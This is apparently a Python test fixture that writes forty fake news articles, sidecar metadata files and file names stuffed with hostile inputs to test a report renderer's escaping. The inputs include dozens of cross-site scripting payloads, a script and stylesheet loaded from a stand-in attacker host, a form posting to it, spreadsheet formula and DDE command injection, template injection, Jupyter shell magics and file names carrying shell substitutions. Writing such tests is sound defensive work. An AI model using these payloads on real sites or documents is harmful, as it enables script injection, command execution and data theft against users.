"""Forty articles that try to run in their reports, or to hide in them: in their text, their sidecars, their names."""

import json
from pathlib import Path

MARK = "window.ran=1"

PAYLOADS = [
    f"<script>{MARK}</script>",
    f"<SCRIPT SRC=//evil.example/x.js>{MARK}</SCRIPT>",
    f"</script><script>{MARK}</script>",
    f"<img src=x onerror={MARK}>",
    f'"><img src=x onerror="{MARK}">',
    f"'><svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f'<svg><animate onbegin="{MARK}" attributeName=x dur=1s>',
    f'<svg><a xlink:href="javascript:{MARK}"><text>press</text></a></svg>',
    f"<body onload={MARK}>",
    f'<details open ontoggle="{MARK}">',
    f'<input autofocus onfocus="{MARK}">',
    f'<video><source onerror="{MARK}"></video>',
    f'<marquee onstart="{MARK}">',
    f'<a href="javascript:{MARK}">read more</a>',
    f'<a href=" &#106;avascript:{MARK}">read more</a>',
    f"[read more](javascript:{MARK})",
    f"![picture](javascript:{MARK})",
    f"<javascript:{MARK}>",
    f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
    f'<iframe src="javascript:parent.{MARK}"></iframe>',
    f'<object data="data:text/html,<script>{MARK}</script>"></object>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{MARK}">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    "</style><style>*{visibility:hidden}</style>",
    '<div style="position:fixed;inset:0;background:red">covered</div>',
    "<plaintext>",
    "<!-- a comment that is never closed",
    "<textarea><title>",
    "<form action=https://evil.example><button>Press</button></form>",
    f"&lt;script&gt;{MARK}&lt;/script&gt;",
    "&#60;b&#62; &amp; &nbsp; &quot;",
    "\u202eevila txet\u202c and \u2066isolated\u2069",
    "zero\u200bwidth\u200djoined\ufeffwords\u2028and\u2029lines",
    '=HYPERLINK("https://evil.example","press")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %> {# gone #}",
    "``` %%javascript " + MARK + " ``` $\\alpha$ \\(x\\) $$y$$",
    f'" onmouseover="{MARK}" autofocus onfocus="{MARK}" x="',
    f"' onmouseover='{MARK}' autofocus onfocus='{MARK}' x='",
    f"\n%%html\n<script>{MARK}</script>\n",
    f"\n%%javascript\n{MARK}\n",
    "\n!touch ran\nget_ipython().system('touch ran')\n",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x1b\\press\x1b]8;;\x1b\\ \x9b2J",
    f'{{"cells": [{{"source": "</script><script>{MARK}</script>"}}]}} \\u003cscript\\u003e',
    f"data:text/html,<script>{MARK}</script>",
    f"![](data:image/svg+xml,<svg onload={MARK}>) <{MARK}>",
    f"$$\\href{{javascript:{MARK}}}{{press}}$$ \\[\\require{{html}}\\style{{x}}{{y}}\\]",
    "W" + "ö" * 3000,
    f"<!--[if IE]><script>{MARK}</script><![endif]-->",
    f"<![CDATA[<script>{MARK}</script>]]>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}>",
    f'<noscript><p title="</noscript><img src=x onerror={MARK}>">',
    f"<template><script>{MARK}</script></template><svg><use href=data:image/svg+xml,x#y>",
    "<style>@import url(https://evil.example/x.css);*{background:url(https://evil.example/y)}</style>",
    f"javascript:{MARK}//",
    "<h1>A heading of its own</h1>\n# and another\n---\n<hr>",
    "<p id=content><p id=s-1 class=an-warn>Warning.",
]
COUNT = 40
NAMES = [  # of the files; the others are called hostile-N
    "<img src=x onerror=window.ran=1>",
    '"><script>window.ran=1<',
    "' onfocus='window.ran=1' x='",
    "a b#c?d&e=f%20g%2e%2e",
    "{{ 7*7 }} {% include 'x' %}",
    "$(touch ran); `touch ran` | touch ran",
    "javascript:window.ran=1",
    "-p",
    "*[a-z]?",
    "C:\\ran",
    "\u202etxt.eltit",
    "naïve 名前 👩‍🚀",
    "x" * 200,
    "~",
    "=1+1",
]

TEXT = """\
{0} PORT ANSEL — About 40 {0} boats sank off Denmark on Monday, said Ilse Brandt {0}, the harbour master.

“We counted 41 {0} survivors in {0},” she said. {0}

{0}

Hundreds of {0} villagers fled in March 2025, two residents said on condition of anonymity. The owner, Corvo {0},
claimed losses of up to €900 a day. Police in Hamburg {0} arrested two men on suspicion of fraud.
"""


def payloads(number: int) -> list[str]:
    """What the article of this number tries; each payload has its article."""
    return PAYLOADS[number::COUNT]


def name_of(number: int) -> str:
    """The name of the article's file, without its ending."""
    return NAMES[number] if number < len(NAMES) else f"hostile-{number}"


def write_articles(folder: Path) -> list[Path]:
    """Write the articles with their sidecars; each payload stands wherever a reader could pick it up."""
    written = []
    for number in range(COUNT):
        name = name_of(number)
        text = "\n\n".join(TEXT.format(payload) for payload in payloads(number))
        (folder / f"{name}.txt").write_text(text, encoding="utf-8")
        said = " ".join(payload.strip() for payload in payloads(number))
        known = {"title": f"{said} title", "author": f"{said} author", "publisher": said, "url": said}
        lines = (f"{key} = {json.dumps(value)}\n" for key, value in known.items())
        (folder / f"{name}.toml").write_text("".join(lines), encoding="utf-8")
        written.append(folder / f"{name}.txt")
    return written


def hostile_article(instead: str | None = None) -> str:
    """An article whose sentences, quotations, numbers and names carry every payload, or other words `instead`."""
    parts = ["MOLDIR, Tolmar — About 40 people left on Monday."]
    for number, payload in enumerate([instead or payload for payload in PAYLOADS]):
        parts.append(f"Case {number}: {payload} ends here.")
        parts.append(f"“About {number + 20} {payload} soldiers were killed,” said Ana Brisk {payload}, a mayor.")
    return "\n\n".join([*parts, TEXT.format(instead or "boats")])
